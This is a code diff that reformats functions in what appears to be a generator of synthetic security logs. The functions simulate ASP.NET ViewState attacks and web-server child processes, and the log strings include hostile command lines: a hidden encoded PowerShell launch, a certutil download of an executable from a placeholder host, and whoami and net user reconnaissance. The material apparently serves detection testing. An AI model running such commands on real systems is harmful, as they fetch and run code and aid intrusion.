@@ -47,9 +47,17 @@ def _viewstate(deed: Attempt) -> None:
                     900,
                 ),
             )
-        text = f"Event code: 4009-++-Viewstate verification failed. Reason: Viewstate was invalid. Request path: /baocao/default.aspx User host address: {ip}"
+        text = (
+            "Event code: 4009-++-Viewstate verification failed. Reason: Viewstate was invalid. "
+            f"Request path: /baocao/default.aspx User host address: {ip}"
+        )
         deed.log(WINDOWS, form.aspnet(deed.wait(1, 9), WEB, 1316, text))
-    child, command = deed.pick(("cmd.exe", "cmd.exe /c whoami"), ("powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgA"), ("csc.exe", "csc.exe /noconfig @a.cmdline"), ("certutil.exe", "certutil.exe -urlcache -f http://x.invalid/a a.exe"))  # fmt: skip
+    child, command = deed.pick(
+        ("cmd.exe", "cmd.exe /c whoami"),
+        ("powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgA"),
+        ("csc.exe", "csc.exe /noconfig @a.cmdline"),
+        ("certutil.exe", "certutil.exe -urlcache -f http://x.invalid/a a.exe"),
+    )
     deed.log(WINDOWS, form.process(deed.wait(5, 300), WEB, child, command, "w3wp.exe", "BaoCaoPool"))
     deed.about("host.name", WEB)
 
@@ -57,7 +65,12 @@ def _viewstate(deed: Attempt) -> None:
 def _web_child(deed: Attempt) -> None:
     parent = deed.way("w3wp.exe", "tomcat9.exe", "java.exe", "php-cgi.exe")
     for _ in range(deed.draw.upto(1, 4)):
-        child, command = deed.pick(("cmd.exe", "cmd.exe /c ipconfig /all"), ("powershell.exe", "powershell -c Get-Process"), ("whoami.exe", "whoami /all"), ("net.exe", "net user"))  # fmt: skip
+        child, command = deed.pick(
+            ("cmd.exe", "cmd.exe /c ipconfig /all"),
+            ("powershell.exe", "powershell -c Get-Process"),
+            ("whoami.exe", "whoami /all"),
+            ("net.exe", "net user"),
+        )
         deed.log(
             WINDOWS,
             form.process(
